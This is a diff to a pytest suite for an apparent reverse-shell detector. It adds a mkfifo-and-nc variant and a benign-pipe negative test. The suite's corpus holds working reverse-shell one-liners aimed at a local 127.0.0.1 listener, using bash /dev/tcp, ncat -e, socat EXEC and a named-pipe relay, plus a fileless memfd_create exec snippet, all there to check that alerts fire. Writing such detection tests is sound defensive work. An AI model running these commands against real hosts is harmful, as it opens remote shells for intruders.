@@ -27,6 +27,9 @@ pytestmark = [
 
 REVERSE_SHELL = "Reverse shell"
 NETCAT = "Netcat or socat runs a command"
+NAMED_PIPE = "Shell relayed through a named pipe"
+TECHNIQUE_PRIORITY = {REVERSE_SHELL: (("T1059.004",), "CRITICAL"), NAMED_PIPE: (("T1059.004",), "CRITICAL"),
+                      NETCAT: (("T1059",), "WARNING")}
 
 C_DUP2 = r"""
 #include <arpa/inet.h>
@@ -112,6 +115,7 @@ def c_shells(tmp_path_factory):
 def variants(port: int, c_shells: dict) -> dict[str, tuple[list[str], str]]:
     """name -> (argv, the rule that must catch it)."""
     py = sys.executable
+    fifo = os.path.join(os.path.dirname(c_shells["dup2"]), "f")
     return {
         "bash /dev/tcp": (["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"], REVERSE_SHELL),
         "bash exec redirections": (["bash", "-c", f"exec 0<>/dev/tcp/127.0.0.1/{port}; exec 1>&0 2>&0; "
@@ -132,6 +136,9 @@ def variants(port: int, c_shells: dict) -> dict[str, tuple[list[str], str]]:
         # ncat and socat relay through pipes or a socketpair: no socket on the shell's stdio
         "ncat -e": (["ncat", "-e", "/bin/sh", "127.0.0.1", str(port)], NETCAT),
         "socat exec": (["socat", f"TCP:127.0.0.1:{port}", "EXEC:/bin/sh"], NETCAT),
+        # the shell's stdio are pipes, the socket is nc's, a named pipe closes the loop
+        "mkfifo and nc": (["bash", "-c", f"rm -f {fifo}; mkfifo {fifo}; cat {fifo} | sh -i 2>&1 | "
+                                         f"nc 127.0.0.1 {port} > {fifo}"], NAMED_PIPE),
         "C dup2": ([c_shells["dup2"], str(port)], REVERSE_SHELL),
         "C fcntl F_DUPFD": ([c_shells["fcntl"], str(port)], REVERSE_SHELL),
         "C dup": ([c_shells["dup"], str(port)], REVERSE_SHELL),
@@ -152,7 +159,7 @@ def _collect(session, seconds: float) -> list:
 
 CORPUS = ["bash /dev/tcp", "bash exec redirections", "sh with socket stdio", "python pty.spawn",
           "python subprocess", "python connect on fd 0", "perl", "ncat -e", "socat exec", "C dup2",
-          "C fcntl F_DUPFD", "C dup"]
+          "C fcntl F_DUPFD", "C dup", "mkfifo and nc"]
 
 
 @pytest.mark.parametrize("name", CORPUS)
@@ -178,8 +185,7 @@ def test_each_reverse_shell_raises_one_alert_within_a_second(session, listener, 
     assert len(ours) == 1, (name, [(a.rule, a.pid, a.signals) for a in alerts])
     assert found_at < 1.0, f"{name}: the alert came after {found_at:.2f} s"
     alert = ours[0]
-    assert alert.techniques == (("T1059.004",) if rule == REVERSE_SHELL else ("T1059",))
-    assert alert.priority == ("CRITICAL" if rule == REVERSE_SHELL else "WARNING")
+    assert (alert.techniques, alert.priority) == TECHNIQUE_PRIORITY[rule]
 
 
 @pytest.fixture(scope="module")
@@ -305,6 +311,15 @@ def test_cli_json_alert_and_check_and_rules(capsys, listener, tmp_path):
 
 FILELESS = ("import os\nfd = os.memfd_create('payload')\nos.write(fd, open('/bin/true', 'rb').read())\n"
             "os.execv(f'/proc/self/fd/{fd}', ['payload'])")
+
+
+def test_pipes_and_named_pipes_alone_raise_nothing(session, tmp_path):
+    fifo = tmp_path / "f"
+    for script in ("echo exit | sh -i", f"mkfifo {fifo}; (cat {fifo} > /dev/null &); echo hi > {fifo}; wait",
+                   f"printf 'exit\\n' > {tmp_path}/in; sh -i < {tmp_path}/in"):
+        assert subprocess.run(["bash", "-c", script], capture_output=True, timeout=30).returncode == 0
+    alerts = _collect(session, 1.0)
+    assert [a for a in alerts if a.rule in (NAMED_PIPE, REVERSE_SHELL)] == []
 
 
 def test_the_alert_log_keeps_what_was_raised_and_log_follows_it(capsys, tmp_path):
